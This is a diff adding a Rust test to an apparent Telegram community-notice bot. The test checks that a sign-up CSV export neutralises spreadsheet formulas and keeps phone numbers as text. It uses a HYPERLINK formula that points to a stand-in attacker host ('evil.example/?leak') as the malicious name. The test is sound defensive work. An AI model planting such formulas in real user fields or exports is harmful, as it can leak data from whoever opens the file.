@@ -692,6 +692,41 @@ async fn sign_up_keeps_the_capacity_under_concurrent_presses_and_the_organiser_g
 }
 
 #[tokio::test]
+async fn a_formula_in_a_name_reaches_the_sign_up_list_as_text_and_phones_stay_text() {
+    let app = TestApp::spawn().await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
+    let owner = app.owner(1001, link, "1-1-101", "8613800000001").await;
+    // Their phone as Telegram shares it, with the country code.
+    sqlx::query("UPDATE users SET phone = '+8613800000001' WHERE telegram_id = $1")
+        .bind(owner.id)
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    let admin = app.admin().await;
+    let text = "元旦游园会，欢迎报名！";
+    let mut c = Compose::new(NoticeKind::Activity, text);
+    c.signup = Some(None);
+    let id = compose(&app, &admin, c).await;
+    received(&owner, text).await;
+    owner.press_shown(Text::new("btn-notice-signup")).await;
+    until_state(&app, id, "done").await;
+
+    let before = admin.seq();
+    admin.emu.send_text(admin.id, "/notices");
+    admin.expect_containing(before, Text::new("notice-list-head")).await;
+    let before = admin.seq();
+    admin.press_shown(Text::new("btn-notice-csv").arg("id", id)).await;
+    let doc = admin.wait(before, "the CSV", |m| m.document_file_id.is_some()).await;
+    let bytes = admin.emu.file_bytes(doc.document_file_id.as_deref().unwrap()).unwrap();
+    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a byte-order mark"));
+    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
+    assert_eq!(rows.len(), 1, "{rows:?}");
+    assert_eq!(rows[0][0], format!("'{link}"), "a leading quote keeps it text in Excel");
+    assert_eq!(rows[0][2], "'+8613800000001", "a phone is not a sum");
+    app.stop().await;
+}
+
+#[tokio::test]
 async fn an_owner_mutes_activities_but_still_gets_outages() {
     let app = TestApp::spawn().await;
     let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
